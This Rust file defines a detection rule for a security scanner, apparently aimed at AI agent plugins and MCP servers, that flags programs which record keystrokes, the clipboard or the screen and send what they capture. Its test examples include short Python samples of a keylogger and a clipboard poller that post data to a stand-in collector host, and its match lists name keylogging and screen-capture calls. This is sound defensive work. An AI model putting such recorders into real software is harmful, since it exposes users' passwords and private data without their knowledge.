//! source-user-watched: a program records what the user types, copies or sees, and sends it.

use std::sync::LazyLock;

use regex::Regex;

use super::source_calls::{SourceFile, source_files, weighed};
use crate::{FactSink, Rule, RuleMeta};
use capdex_evidence::code::sinks::{carried_out, sends, text_of};
use capdex_evidence::code::{Call, TaintSources};
use capdex_evidence::subject::Subject;
use capdex_model::fact::{Confidence, Severity};

/// See the file's first line.
pub(super) struct SourceUserWatched;

static META: LazyLock<RuleMeta> = LazyLock::new(|| toml::from_str(CARD).expect("the card is valid"));

const CARD: &str = r##"
id = "source-user-watched"
version = 1
title = "A program watches the user and sends what it sees"
why = "Keystrokes, the clipboard and the screen hold passwords and everything else that passes through a person's hands."
fix = "Keep what is recorded on the machine, or let the user start and see each recording."
cannot_see = "Recording through libraries that it does not know, and sending from another file."
severity = "high"
confidence = "medium"
kinds = ["skill", "mcp_server", "hook", "plugin", "package"]
lifecycle = "stable"
cites = ["SAFE-T1801", "mcp-scan:E004@C", "owasp-mcp:MCP10", "owasp-ast:AST01", "AML.T0086"]
[[examples.fires]]
note = "Keys are collected and posted."
[examples.fires.files]
"a.py" = '''
from pynput import keyboard
import requests
keys = []
def seen(key):
    keys.append(str(key))
    requests.post("https://collector.test/in", json=keys)
keyboard.Listener(on_press=seen).run()
'''
[[examples.fires]]
note = "The clipboard is looked at again and again."
[examples.fires.files]
"a.py" = '''
import pyperclip, requests, time
while True:
    requests.post("https://collector.test/in", data=pyperclip.paste())
    time.sleep(2)
'''
[[examples.silent]]
note = "A hot key, and nothing is sent."
[examples.silent.files]
"a.py" = '''
from pynput import keyboard
def seen(key):
    print("pressed")
keyboard.Listener(on_press=seen).run()
'''
[[examples.silent]]
note = "A picture of the screen for a model that is asked about it."
[examples.silent.files]
"a.py" = '''
import pyautogui, requests, time
while True:
    picture = pyautogui.screenshot()
    requests.post("https://api.openai.com/v1/responses", json={})
    time.sleep(1)
'''
"##;

impl Rule for SourceUserWatched {
    fn meta(&self) -> &RuleMeta {
        &META
    }

    fn check(&self, subject: &Subject<'_>, facts: &mut FactSink<'_>) {
        for file in source_files(subject) {
            let text = subject.evidence.documents.get(file.path).map_or("", |document| document.text.as_str());
            if let Some(call) = watching(&file, text) {
                let (severity, confidence) = weighed(&file, Severity::High, Confidence::Medium);
                facts.found_as(severity, confidence, call.place.clone(), &call.text);
            }
        }
    }
}

static AGAIN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u)\bwhile\s+(?:True|1)\b|\bwhile\s*\((?:true|1)\)|\bsetInterval\(")
        .expect("the pattern is fixed and valid")
});

static MODEL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i-u)anthropic|openai|gemini|ollama|localhost|127\.0\.0\.1").expect("the pattern is fixed and valid")
});

/// The call by which a file watches, where it sends as well.
fn watching<'a>(file: &SourceFile<'a>, text: &str) -> Option<&'a Call> {
    let calls = &file.view.calls;
    let leaves = |call: &&Call| {
        let local = call
            .arguments
            .iter()
            .filter_map(text_of)
            .any(|text| text.contains("localhost") || text.contains("127.0.0.1"));
        !local && (sends(call) || call.callee.starts_with("connection."))
    };
    let recorder = calls.iter().find(|call| records_keys(&call.callee) || takes_screen(&call.callee));
    let copied =
        || calls.iter().find(|call| carried_out(call).is_some_and(|carried| carried.any(TaintSources::CLIPBOARD)));
    match recorder {
        Some(call) if calls.iter().any(|call| leaves(&call)) => {
            let meant = records_keys(&call.callee) || (AGAIN.is_match(text) && !MODEL.is_match(text));
            meant.then_some(call)
        }
        _ => copied().filter(|_| AGAIN.is_match(text) && !MODEL.is_match(text)),
    }
}

fn records_keys(callee: &str) -> bool {
    matches!(
        callee,
        "pynput.keyboard.Listener" | "keyboard.hook" | "keyboard.on_press" | "keyboard.on_release" | "keyboard.record"
    )
}

fn takes_screen(callee: &str) -> bool {
    matches!(callee, "PIL.ImageGrab.grab" | "ImageGrab.grab" | "pyautogui.screenshot" | "mss.mss")
}
